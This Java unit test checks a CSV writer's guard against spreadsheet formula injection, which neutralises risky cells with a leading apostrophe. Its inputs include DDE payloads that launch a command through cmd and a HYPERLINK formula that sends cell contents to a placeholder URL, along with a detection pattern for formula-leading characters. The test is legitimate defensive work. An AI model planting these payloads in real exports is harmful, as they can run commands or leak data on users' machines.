package org.athenaelt.csv;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.Reader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaGuardTest {

  /** What may begin a formula, and what may follow. */
  private static final List<String> PARTS =
      List.of("=", "+", "-", "@", "\t", "\r", "\n", "'", "\"", ",", ";", "1", "2.5", "a", " ", "é");

  @TempDir Path folder;

  private String written(String value, FormulaGuard guard) throws IOException {
    return rows(List.of(value), guard).get(0);
  }

  private List<String> rows(List<String> values, FormulaGuard guard) throws IOException {
    Path file = folder.resolve("out.csv");
    try (CsvWriter writer = CsvWriter.create(file, List.of("value"), guard)) {
      values.forEach(value -> writer.write(List.of(value)));
      writer.commit();
    }
    List<String> read = new ArrayList<>();
    CSVFormat format =
        CSVFormat.RFC4180.builder().setRecordSeparator('\n').setIgnoreEmptyLines(false).get();
    try (Reader in = Files.newBufferedReader(file, UTF_8)) {
      for (CSVRecord row : format.parse(in)) {
        read.add(row.get(0));
      }
    }
    return read.subList(1, read.size());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "=HYPERLINK(\"http://example.com?leak=\"&A1,\"a, b\")",
        "-",
        "--5",
        "-5.",
        "-5,00",
        "+1e5",
        "\uFF1D1+1",
        "\uFF0B1",
        "\uFF0D1",
        "\uFF20SUM(A1)",
        "'=1+1",
        "'",
      })
  void aFormulaGetsAnApostrophe(String value) throws IOException {
    assertThat(written(value, FormulaGuard.ON)).isEqualTo("'" + value);
    assertThat(written(value, FormulaGuard.OFF)).isEqualTo(value);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "-5.00",
        "+3",
        "-0.0000000001",
        "15.2452054795",
        "Trust = No. 5",
        "a-b",
        "a'b",
        " =1+1",
        "\uFF1E",
        "2019-03-01",
        "é"
      })
  void otherTextsAndNumbersAreWrittenAsTheyAre(String value) throws IOException {
    assertThat(written(value, FormulaGuard.ON)).isEqualTo(value);
  }

  /** Removing one apostrophe is all that a reader has to do, whatever the text. */
  @Test
  void aReaderGetsEveryTextBack() throws IOException {
    long seed = 20261126;
    Random random = new Random(seed);
    List<String> values = new ArrayList<>();
    for (int i = 0; i < 3000; i++) {
      StringBuilder value = new StringBuilder();
      for (int n = random.nextInt(5); n >= 0; n--) {
        value.append(PARTS.get(random.nextInt(PARTS.size())));
      }
      values.add(value.toString());
    }

    List<String> read = rows(values, FormulaGuard.ON);

    assertThat(read.stream().map(text -> text.startsWith("'") ? text.substring(1) : text))
        .as("seed " + seed)
        .isEqualTo(values);
    assertThat(read)
        .as("seed " + seed)
        .noneMatch(text -> text.matches("(?s)[=@\t\r\n].*|[+-](?![0-9]+(\\.[0-9]+)?$).*"));
  }
}
